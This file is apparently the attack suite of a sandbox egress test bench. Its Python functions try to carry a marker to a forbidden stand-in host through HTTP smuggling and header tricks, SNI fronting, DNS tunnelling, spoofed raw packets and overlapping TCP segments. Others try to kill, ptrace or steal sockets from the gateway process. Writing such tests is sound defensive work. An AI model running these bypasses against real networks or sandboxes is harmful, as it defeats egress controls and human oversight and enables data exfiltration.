"""Attacks of `fulmar-lab bench egress` that take more than a line of shell: attacks.py NAME.

Each tries to bring the mark in $MARK to a place that the rules do not allow. The servers notice whether it arrived; an
attack that steals something instead of reaching it prints `reached` and the mark.
"""

import ctypes
import os
import signal
import socket
import ssl
import struct
import sys
import time

MARK = os.environ["MARK"]
NAME = f"{MARK}.evil.test"
ALLOWED = "ok.test"
EDGE, EVIL, RESOLVER = "45.10.0.10", "45.10.0.66", "45.10.0.53"
GET = f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode()
EVIL_GET = f"GET / HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode()


def connect(host=ALLOWED, port=80):
    connection = socket.create_connection((host, port), timeout=3)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def told(*pieces, pause=0.0, host=ALLOWED, port=80):
    """Sends pieces on one connection, and reads what comes back."""
    with connect(host, port) as connection:
        for piece in pieces:
            connection.sendall(piece)
            time.sleep(pause)
        connection.settimeout(1)
        try:
            while connection.recv(65536):
                pass
        except OSError:
            pass


# ---- another name at the allowed address ----


def second_request():
    with connect() as connection:
        connection.sendall(GET)
        connection.recv(65536)
        connection.sendall(EVIL_GET)
        connection.settimeout(1)
        connection.recv(65536)


def pipelined():
    told(GET + EVIL_GET)


def one_byte_segments():
    told(*(bytes([byte]) for byte in EVIL_GET), pause=0.002)


def two_hosts():
    told(f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {NAME}\r\n\r\n".encode())


def host_spellings():
    for line in (f"Host : {NAME}", f"Host:\r\n {NAME}", f"Host:\t{NAME}", f"hOST: {NAME}:80", f"Host: {NAME}."):
        try:
            told(f"GET / HTTP/1.1\r\n{line}\r\n\r\n".encode())
        except OSError:
            pass


def bare_line_feeds():
    told(f"GET / HTTP/1.1\nHost: {NAME}\n\n".encode())


def smuggled():
    """Two lengths: a server that believes the transfer coding takes the rest for a request."""
    head = f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: {len(EVIL_GET) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n"
    told(head.encode() + b"0\r\n\r\n" + EVIL_GET)


def http10_without_host():
    told(f"GET http://{NAME}/ HTTP/1.0\r\n\r\n".encode())


def h2_frame(kind, flags, stream, content):
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def h2_request(name):
    """Header fields as literals without Huffman coding (RFC 7541 section 6.2.2)."""
    fields = b"\x82\x86\x84\x01" + bytes([len(name)]) + name.encode()
    return h2_frame(1, 5, 1, fields)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")


def http2():
    told(PREFACE + h2_request(NAME))


def h2c_upgrade():
    upgrade = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n"
    told(f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n{upgrade}\r\n".encode(), PREFACE + h2_request(NAME), EVIL_GET, pause=0.2)


def upgrade_refused():
    """An Upgrade that the server ignores: what follows is another request."""
    told(f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\nUpgrade: none\r\n\r\n".encode(), EVIL_GET, pause=0.3)


def tls(name, then=b"", at=(ALLOWED, 443), change=None, before=b""):
    """A handshake with a server name, through a connection that may change what is sent."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with connect(*at) as connection:
        if before:
            connection.sendall(before)
            connection.recv(1)
        is_first = True
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = outgoing.read()
                for piece in change(data) if change and is_first else [data]:
                    connection.sendall(piece)
                    time.sleep(0.002 if change else 0)
                is_first = False
                incoming.write(connection.recv(65536))
        session.write(then or GET)
        connection.sendall(outgoing.read())
        incoming.write(connection.recv(65536))
        connection.sendall(outgoing.read())
        time.sleep(0.1)


def sni():
    tls(NAME)


def no_sni():
    tls(None, EVIL_GET)


def fronted():
    tls(ALLOWED, EVIL_GET)


def sni_in_one_byte_segments():
    tls(NAME, change=lambda data: [data[at : at + 1] for at in range(len(data))])


def sni_in_many_records():
    def cut(data):
        head, body = data[:3], data[5:]
        return [head + struct.pack(">H", len(body[at : at + 7])) + body[at : at + 7] for at in range(0, len(body), 7)]

    tls(NAME, change=cut)


def encrypted_hello():
    """An encrypted ClientHello with an allowed outer name (the inner one in the clear, for the server to see)."""

    def add(data):
        body = bytearray(data[9:])
        at = 34
        at += 1 + body[at]
        at += 2 + struct.unpack(">H", body[at : at + 2])[0]
        at += 1 + body[at]
        inner = b"\0" + struct.pack(">HHB", 1, 1, 7) + struct.pack(">H", 0) + struct.pack(">H", len(NAME)) + NAME.encode()
        extension = b"\xfe\x0d" + struct.pack(">H", len(inner)) + inner
        extensions = struct.unpack(">H", body[at : at + 2])[0] + len(extension)
        body[at : at + 2] = struct.pack(">H", extensions)
        body += extension
        handshake = b"\x01" + struct.pack(">I", len(body))[1:] + bytes(body)
        return [b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake]

    tls(ALLOWED, change=add)


def postgres_tls():
    tls(NAME, at=(ALLOWED, 5433), before=struct.pack(">II", 8, 80877103))


def proxy_protocol():
    told(b"PROXY TCP4 192.0.2.1 192.0.2.2 1 80\r\n" + EVIL_GET)


def blank_lines():
    for blank in (b"\r\n", b"\n\n", b" ", b"\r\n" * 20):
        told(blank + EVIL_GET)


# ---- DNS ----


def question(name, kind=1, number=0x1234):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def own_resolver():
    with open("/etc/resolv.conf") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


def ask(message, server=None, port=53):
    server = server or own_resolver()
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as asked:
        asked.settimeout(1)
        asked.sendto(message, (server, port))
        try:
            asked.recv(4096)
        except OSError:
            pass


def dns_txt():
    ask(question(NAME, 16))


def dns_other_types():
    for kind in (2, 5, 6, 10, 12, 15, 33, 64, 65, 255):
        ask(question(NAME, kind, kind))


def dns_long_labels():
    tail = f".{MARK}.evil.test"
    ask(question("a" * 63 + "." + "b" * 63 + "." + "c" * 60 + tail, 16))


def dns_below_allowed():
    ask(question(f"{MARK}.{ALLOWED}"))


def dns_two_questions():
    first, second = question(ALLOWED), question(NAME)
    ask(first[:4] + struct.pack(">H", 2) + first[6:] + second[12:])


def dns_additional():
    """The mark in an additional record of a plain question, as a resolver might forward it."""
    first, data = question(ALLOWED), b"\x0c" + MARK[:12].encode() + MARK.encode()
    record = b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(data) + 4) + struct.pack(">HH", 65001, len(data)) + data
    ask(first[:10] + struct.pack(">H", 1) + first[12:] + record)


def dns_tcp(server=None):
    message = question(NAME)
    told(struct.pack(">H", len(message)) + message, host=server or own_resolver(), port=53)


def dns_tcp_other():
    dns_tcp(EVIL)


def dns_other_server():
    ask(question(NAME), EVIL)


def dns_real_resolver():
    ask(question(NAME), RESOLVER)


def dns_other_port():
    ask(MARK.encode(), EVIL, 5000)


def other_port():
    told(MARK.encode(), host=EVIL, port=5432)


def dns_over_tls():
    message = question(NAME)
    tls("resolver.test", struct.pack(">H", len(message)) + message, (EVIL, 853))


def llmnr():
    ask(question(NAME), "224.0.0.251", 5353)


# ---- other addresses ----


def multicast():
    ask(MARK.encode(), "239.9.9.9", 5000)


def broadcast():
    for to in ("255.255.255.255", "45.10.0.7"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            try:
                sender.sendto(MARK.encode(), (to, 5000))
            except OSError:
                pass


def fast_open():
    with socket.socket() as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 1, 0))
        client.sendto(f"GET /{MARK} HTTP/1.0\r\n\r\n".encode(), socket.MSG_FASTOPEN, (EVIL, 80))
        client.recv(100)


# ---- frames ----


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Wire:
    """The guest's interface, by a packet socket: the kernel of the guest has no part in it."""

    port = 40001

    def __init__(self):
        with open("/proc/net/route") as routes:
            self.name = next(line.split()[0] for line in routes if line.split()[1] == "00000000")
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((self.name, 0))
        self.socket.settimeout(2)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect((EVIL, 9))
            self.ip = probe.getsockname()[0]
        self.mac = self.socket.getsockname()[4]
        self.router = self.router_mac()

    def router_mac(self):
        os.system(f"ping -c1 -W1 {EVIL} >/dev/null 2>&1")
        with open("/proc/net/arp") as table:
            for line in list(table)[1:]:
                found = line.split()
                if found[5] == self.name and found[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(found[3].replace(":", ""))
        return b"\xff" * 6

    def packet(self, payload, protocol, to=EVIL, source=None, number=1, offset=0, more=False):
        flags = (0x2000 if more else 0) | (offset // 8)
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), number, flags, 64, protocol, 0)
        head += socket.inet_aton(source or self.ip) + socket.inet_aton(to)
        head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
        self.socket.send(self.router + self.mac + b"\x08\x00" + head + payload)

    def sum(self, protocol, content, to, source):
        pseudo = socket.inet_aton(source or self.ip) + socket.inet_aton(to) + struct.pack(">BBH", 0, protocol, len(content))
        return checksum(pseudo + content)

    def udp(self, payload, port, to=EVIL, source=None):
        content = struct.pack(">HHHH", 40000, port, 8 + len(payload), 0) + payload
        return content[:6] + struct.pack(">H", self.sum(17, content, to, source)) + content[8:]

    def tcp(self, to, port, sequence, acknowledged, flags, payload=b""):
        head = struct.pack(">HHIIBBHHH", self.port, port, sequence, acknowledged, 0x50, flags, 65000, 0, 0)
        content = head + payload
        sum_ = struct.pack(">H", self.sum(6, content, to, None))
        self.packet(content[:16] + sum_ + content[18:], 6, to)

    def answer(self, port):
        """The next TCP segment from a port: its sequence number and what it acknowledges."""
        end = time.monotonic() + 2
        while time.monotonic() < end:
            frame = self.socket.recv(65536)
            if frame[12:14] == b"\x08\x00" and frame[23] == 6 and struct.unpack(">HH", frame[34:38]) == (port, self.port):
                return struct.unpack(">II", frame[38:46])
        raise OSError("no answer")


def raw_frames():
    wire = Wire()
    wire.packet(wire.udp(MARK.encode(), 5000), 17)
    time.sleep(0.2)


def spoofed_source():
    wire = Wire()
    for source in ("45.10.0.1", "127.0.0.1", "192.0.2.77"):
        wire.packet(wire.udp(MARK.encode(), 5000, source=source), 17, source=source)
    time.sleep(0.2)


def fragments():
    """The header of a datagram to an allowed port in one fragment, that of another destination in the next."""
    wire = Wire()
    content = wire.udp(MARK.encode() * 4, 5000)
    wire.packet(content[:8], 17, number=7, more=True)
    wire.packet(content[8:], 17, number=7, offset=8)
    time.sleep(0.2)


def silent_wire():
    """A wire with an address that is no more the kernel's, which would reset what it does not know."""
    wire = Wire()
    wire.to = socket.gethostbyname(ALLOWED)
    os.system(f"ip addr flush dev {wire.name}")
    return wire


def raw_stream(wire, pieces):
    """A connection whose segments go out in the order given: pairs of an offset and bytes."""
    wire.port += 1
    first = 1000
    wire.tcp(wire.to, 80, first, 0, 2)
    sequence, _ = wire.answer(80)
    wire.tcp(wire.to, 80, first + 1, sequence + 1, 0x10)
    for offset, piece in pieces:
        wire.tcp(wire.to, 80, first + 1 + offset, sequence + 1, 0x18, piece)
        time.sleep(0.01)
    time.sleep(0.5)


def reordered_segments():
    pieces = [(at, EVIL_GET[at : at + 9]) for at in range(0, len(EVIL_GET), 9)]
    raw_stream(silent_wire(), pieces[::-1])


def overlapping_segments():
    """The same bytes of the stream twice, with another name the second time."""
    filler = f"GET / HTTP/1.1\r\nHost: {'ok.test'.ljust(len(NAME))}\r\n\r\n".encode()
    wire = silent_wire()
    for first, second in ((filler, EVIL_GET), (EVIL_GET, filler)):
        raw_stream(wire, [(4, first[4:]), (4, second[4:]), (0, first[:8])])


def icmp_tunnel():
    wire = Wire()
    head = struct.pack(">BBHHH", 8, 0, 0, 7, 1) + MARK.encode()
    wire.packet(head[:2] + struct.pack(">H", checksum(head)) + head[4:], 1)
    time.sleep(0.2)


def raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sender:
        content = struct.pack(">HHHH", 40000, 5000, 8 + len(MARK), 0) + MARK.encode()
        sender.sendto(content, (EVIL, 0))
    time.sleep(0.2)


# ---- Unix sockets, processes, files ----


def unix(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        client.connect(path)
        client.sendall(MARK.encode())
        client.recv(100)


def abstract_socket():
    unix("\0egress")


def inherited_descriptor():
    with socket.socket(fileno=3) as inherited:
        inherited.sendall(f"GET /{MARK} HTTP/1.0\r\n\r\n".encode())
        time.sleep(0.2)


def other_processes():
    """The other processes of this run, in the namespace of processes that the bench made for it."""
    if "OWN_PROCESSES" not in os.environ:
        return []
    return [int(entry) for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()]


def is_gateway(pid):
    try:
        with open(f"/proc/{pid}/comm") as file:
            return file.read().startswith("fulmar")
    except OSError:
        return False


def kill_gateway():
    for pid in other_processes():
        if is_gateway(pid):
            os.kill(pid, signal.SIGKILL)
    time.sleep(0.3)
    told(f"GET /{MARK} HTTP/1.0\r\n\r\n".encode(), host=EVIL)


def other_namespace():
    """The network namespace of any other process of this user."""
    libc = ctypes.CDLL(None, use_errno=True)
    own = os.stat("/proc/self/ns/net").st_ino
    for pid in other_processes():
        for kind in ("user", "net"):
            try:
                with open(f"/proc/{pid}/ns/{kind}") as there:
                    libc.setns(there.fileno(), 0)
            except OSError:
                pass
    if os.stat("/proc/self/ns/net").st_ino != own:
        print(f"reached {MARK}: is in another network namespace")


def trace_gateway():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in other_processes():
        if is_gateway(pid) and libc.ptrace(16, pid, 0, 0) == 0:
            print(f"reached {MARK}: traced the gateway")
            libc.ptrace(17, pid, 0, 0)


def steal_descriptors():
    """Sockets of the gateway by pidfd_getfd(2)."""
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in filter(is_gateway, other_processes()):
        handle = libc.syscall(434, pid, 0)
        for number in range(3, 64):
            if libc.syscall(438, handle, number, 0) >= 0:
                print(f"reached {MARK}: took a descriptor of the gateway")
                return


def write_memory():
    for pid in filter(is_gateway, other_processes()):
        try:
            with open(f"/proc/{pid}/mem", "r+b"):
                print(f"reached {MARK}: opened the memory of the gateway")
        except OSError:
            pass


if __name__ == "__main__":
    name = sys.argv[1]
    if name.startswith("/"):
        unix(name)
    else:
        globals()[name]()
